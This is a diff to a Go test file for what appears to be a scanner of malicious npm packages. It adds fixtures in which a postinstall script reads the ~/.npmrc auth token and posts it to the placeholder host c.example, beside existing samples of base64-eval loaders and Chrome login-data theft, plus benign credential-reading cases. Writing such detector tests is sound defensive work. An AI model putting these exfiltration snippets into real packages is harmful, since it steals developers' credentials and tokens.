@@ -212,6 +212,10 @@ func TestNPMMalicious(t *testing.T) {
 			"lib/plugins/b.js":      "module.exports = 2;\nnew Function(Buffer.from('cmV0dXJuIDE=', 'base64').toString())();\n",
 			"test/fixtures/evil.js": "eval(atob('eA=='))\n",
 		}, want: []want{{RuleEvalDecode, High, "lib/plugins/b.js:2:"}}},
+		{name: "npm token stolen at install", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(`"postinstall":"node t.js"`),
+			"t.js":         "const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nconst tok = /_authToken=(.*)/.exec(rc);\nrequire('https').request({host: 'c.example', path: '/' + tok, method: 'POST'}).end();\n",
+		}, want: []want{{RuleCredentialPath, High, "t.js:2:"}}},
 		{name: "wallet and browser data in a bin", eco: "npm", files: map[string]string{
 			"package.json": `{"name":"x","bin":{"x":"cli.js"}}`,
 			"cli.js":       "const p = home + '/Library/Application Support/Google/Chrome/Default/Login Data';\nrequire('https').request('https://c.example', {method:'POST'}).end(read(p));\n",
@@ -250,6 +254,14 @@ func TestNPMLegitimate(t *testing.T) {
 		{name: "husky prepare and node-gyp", eco: "npm", files: map[string]string{
 			"package.json": pkgJSON(`"prepare":"husky install","install":"node-gyp rebuild"`),
 			"binding.gyp":  "{ 'targets': [{ 'target_name': 'x', 'sources': ['src/x.cc'], 'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"] }] }\n",
+		}},
+		{name: "a registry client reads its credential file and publishes", eco: "npm", maxSeverity: Medium, files: map[string]string{
+			"package.json": pkgJSON(``),
+			"index.js":     "const rc = path.join(os.homedir(), '.pypirc');\nconst creds = parse(fs.readFileSync(rc));\nhttps.request({host: 'upload.pypi.org', method: 'POST'});\n",
+		}},
+		{name: "a binary download with a GitHub token for the rate limit", eco: "npm", maxSeverity: Medium, files: map[string]string{
+			"package.json":       pkgJSON(`"postinstall":"node lib/postinstall.js"`),
+			"lib/postinstall.js": "const headers = process.env.GITHUB_TOKEN ? {authorization: 'token ' + process.env.GITHUB_TOKEN} : {};\nhttps.get('https://api.github.com/repos/x/y/releases', {headers});\n",
 		}},
 		{name: "npmrc read for the registry to download a binary from", eco: "npm", maxSeverity: Low, files: map[string]string{
 			"package.json": pkgJSON(`"postinstall":"node dl.js"`),
